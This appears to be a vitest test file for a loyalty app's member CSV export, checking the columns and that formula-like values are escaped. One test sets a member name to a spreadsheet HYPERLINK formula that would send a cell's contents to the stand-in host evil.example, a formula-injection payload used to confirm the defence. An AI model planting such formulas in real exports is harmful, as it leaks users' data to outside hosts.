import { loadCatalogue, type Catalogue } from '@stamp/shared';
import { beforeAll, describe, expect, it } from 'vitest';

import { MEMBER } from '../../../test/loyaltyFixtures';
import { csvText } from '../../ui/csv';
import { memberCsvColumns } from './membersCsv';

let t: Catalogue;

beforeAll(async () => {
  t = await loadCatalogue('en', true);
});

describe('memberCsvColumns', () => {
  it('writes id, name, phone, join date, status and points, and never a password', () => {
    const text = csvText(memberCsvColumns(t), [{ ...MEMBER, hphone_num: '09171234567', point: 12 }]);

    expect(text.split('\r\n')).toEqual([
      'ID,Name,Phone,Join date,Status,Points',
      'juan@example.ph,Juan Dela Cruz,09171234567,2026-11-20,normal,12',
    ]);
  });

  it('writes a member named =HYPERLINK(...) as text a spreadsheet shows, not a link it follows', () => {
    const member = {
      ...MEMBER,
      member_id: '@evil.example',
      member_name: '=HYPERLINK("http://evil.example/?d="&A2,"Click me")',
      member_name2: '',
      hphone_num: '+639171234567',
    };

    const [, row] = csvText(memberCsvColumns(t), [member]).split('\r\n');

    expect(row).toBe(
      [
        `"'@evil.example"`,
        `"'=HYPERLINK(""http://evil.example/?d=""&A2,""Click me"") "`,
        `"'+639171234567"`,
        '2026-11-20',
        'normal',
        '0',
      ].join(','),
    );
  });
});
